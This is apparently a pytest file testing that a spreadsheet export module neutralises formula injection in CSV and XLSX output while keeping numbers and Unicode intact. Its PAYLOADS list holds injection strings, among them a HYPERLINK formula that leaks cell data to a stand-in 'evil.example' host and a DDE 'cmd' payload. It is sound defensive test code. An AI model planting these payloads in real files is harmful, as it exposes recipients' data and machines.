"""Spreadsheet exports neutralise formulas in text, keep numbers numeric and round-trip Unicode."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from inpractice.analysis.codebook import load_codebook
from inpractice.analysis.refi import Coding, Source
from inpractice.analysis.spreadsheet import (
    CODING_COLUMNS,
    TRUNCATED,
    XLSX_CELL_LIMIT,
    coding_rows,
    safe_cell,
    write_csv,
    write_xlsx,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\uff1d1+1",
]
COLUMNS = ["id", "text", "score", "delta", "ratio", "flag", "when", "note"]


def _rows():
    for index, payload in enumerate(PAYLOADS):
        yield {
            "id": index,
            "text": payload,
            "score": 3,
            "delta": -4,
            "ratio": -0.25,
            "flag": index % 2 == 0,
            "when": date(2025, 7, 1),
            "note": "Zoë’s café — naïve 😀 ąčę 東京",
        }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_every_formula_trigger(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [-3, 0, 2.5, -0.25, True, None, date(2025, 1, 1), "plain text", "", "a=b", "x-1"]
)
def test_safe_cell_leaves_numbers_and_harmless_text_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_turns_other_values_into_safe_text():
    assert safe_cell(["=a", "b"]) == "'=a; b"
    assert safe_cell(float("nan")) is None
    assert safe_cell(float("-inf")) is None


# --- CSV --------------------------------------------------------------------------------------


def _csv(rows=None, columns=COLUMNS) -> bytes:
    buffer = io.BytesIO()
    count = write_csv(_rows() if rows is None else rows, columns, buffer)
    assert count == (len(PAYLOADS) if rows is None else count)
    return buffer.getvalue()


def test_csv_is_utf8_with_bom_and_crlf_and_quotes_text_only():
    raw = _csv()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ",".join(f'"{c}"' for c in COLUMNS)
    assert lines[1].startswith('0,"\'=1+1",3,-4,-0.25,"TRUE","2025-07-01",')


def test_csv_neutralises_every_payload_and_round_trips_unicode():
    text = _csv().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["text"] for row in rows] == ["'" + p for p in PAYLOADS]
    assert {row["note"] for row in rows} == {"Zoë’s café — naïve 😀 ąčę 東京"}


def test_csv_numbers_stay_numbers():
    text = _csv().decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    next(reader)
    first = next(reader)
    assert first[0] == 0 and first[2:5] == [3, -4, -0.25]  # unquoted, so parsed as numbers


def test_csv_writes_to_a_path_and_leaves_a_file_object_open(tmp_path):
    path = tmp_path / "codings.csv"
    assert write_csv([{"text": "=x"}], ["text"], path) == 1
    assert path.read_bytes() == b'\xef\xbb\xbf"text"\r\n"\'=x"\r\n'
    buffer = io.BytesIO()
    write_csv([], ["text"], buffer)
    assert not buffer.closed


def test_csv_streams_a_generator_and_missing_keys_are_empty():
    rows = ({"a": i} for i in range(5000))
    buffer = io.BytesIO()
    assert write_csv(rows, ["a", "b"], buffer) == 5000
    assert buffer.getvalue().decode("utf-8-sig").split("\r\n")[1] == '0,""'


# --- XLSX -------------------------------------------------------------------------------------


def _xlsx(sheets=None) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(sheets or {"codings": (COLUMNS, _rows())}, buffer)
    return buffer.getvalue()


def test_xlsx_neutralises_every_payload_and_keeps_numbers_numeric():
    workbook = load_workbook(io.BytesIO(_xlsx()))
    sheet = workbook["codings"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert [row[1] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    first = rows[1]
    assert first[0] == 0 and first[2] == 3 and first[3] == -4 and first[4] == -0.25
    assert isinstance(first[3], int) and first[5] is True
    assert first[6] == datetime(2025, 7, 1)
    assert first[7] == "Zoë’s café — naïve 😀 ąčę 東京"


def test_xlsx_sheet_xml_has_no_formulas_or_error_cells():
    rows = [{"text": p} for p in PAYLOADS] + [{"text": "#N/A"}, {"text": "#REF!"}]
    data = _xlsx({"codings": (["text"], rows)})
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml and 't="str"' not in xml
    assert xml.count('t="inlineStr"') == 1 + len(rows)  # header + every text cell
    assert "<t>'=1+1</t>" in xml
    assert re.search(r"<t[^>]*>#N/A</t>", xml)


def test_a_string_that_merely_looks_like_a_formula_is_never_stored_as_one():
    # even if neutralisation were bypassed, strings are stored as strings, not formulas
    from inpractice.analysis import spreadsheet

    original = spreadsheet.safe_cell
    try:
        spreadsheet.safe_cell = lambda value: value
        data = _xlsx({"raw": (["text"], [{"text": "=1+1"}])})
    finally:
        spreadsheet.safe_cell = original
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<t>=1+1</t>" in xml


def test_xlsx_has_a_frozen_bold_header_filter_and_column_widths():
    data = _xlsx()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert 'autoFilter ref="A1:H13"' in xml
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["codings"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
    assert 8 <= widths["A"] < widths["H"] <= 60


def test_xlsx_writes_several_sheets_to_a_path(tmp_path):
    path = tmp_path / "export.xlsx"
    write_xlsx(
        {
            "codings": (["a"], [{"a": 1}]),
            "submissions": (["b"], iter([{"b": "x"}, {"b": "-y"}])),
            "mentions": (["c"], []),
        },
        path,
    )
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["codings", "submissions", "mentions"]
    assert [r[0] for r in workbook["submissions"].iter_rows(values_only=True)] == ["b", "x", "'-y"]


def test_xlsx_cleans_control_characters_and_cuts_overlong_text():
    rows = [{"text": "bell\x07 tab\t ok"}, {"text": "x" * (XLSX_CELL_LIMIT + 10)}]
    workbook = load_workbook(io.BytesIO(_xlsx({"t": (["text"], rows)})))
    values = [r[0] for r in workbook["t"].iter_rows(min_row=2, values_only=True)]
    assert values[0] == "bell\ufffd tab\t ok"
    assert len(values[1]) == XLSX_CELL_LIMIT and values[1].endswith(TRUNCATED)


def test_xlsx_stores_aware_datetimes_in_utc():
    moment = datetime(2025, 7, 1, 10, 0, tzinfo=UTC)
    workbook = load_workbook(io.BytesIO(_xlsx({"t": (["when"], [{"when": moment}])})))
    assert workbook["t"]["A2"].value == datetime(2025, 7, 1, 10, 0)


@pytest.mark.parametrize("name", ["", "a" * 32, "bad/name", "bad[1]"])
def test_bad_sheet_names_are_refused(name):
    with pytest.raises(ValueError, match="sheet name"):
        write_xlsx({name: (["a"], [])}, io.BytesIO())


# --- ready-made coding table ------------------------------------------------------------------


def test_coding_rows_carry_the_coded_words_and_code_names():
    codebook = load_codebook("default")
    text = "=HYPERLINK() is what Zoë typed. We visit every family."
    start = text.index("We visit")
    rows = list(
        coding_rows(
            codebook,
            [Source("s1", "Submission 1", text, {})],
            [
                Coding("s1", 0, 12, "p1.transitions", "model:x"),
                Coding("s1", start, len(text), "p4", "a"),
            ],
        )
    )
    assert rows[0]["text"] == "=HYPERLINK()" and rows[0]["parent_code_id"] == "p1"
    assert rows[1]["code_name"] == codebook.get("p4").name and rows[1]["parent_code_id"] == ""
    raw = io.BytesIO()
    write_csv(rows, CODING_COLUMNS, raw)
    assert '"\'=HYPERLINK()"' in raw.getvalue().decode("utf-8-sig")
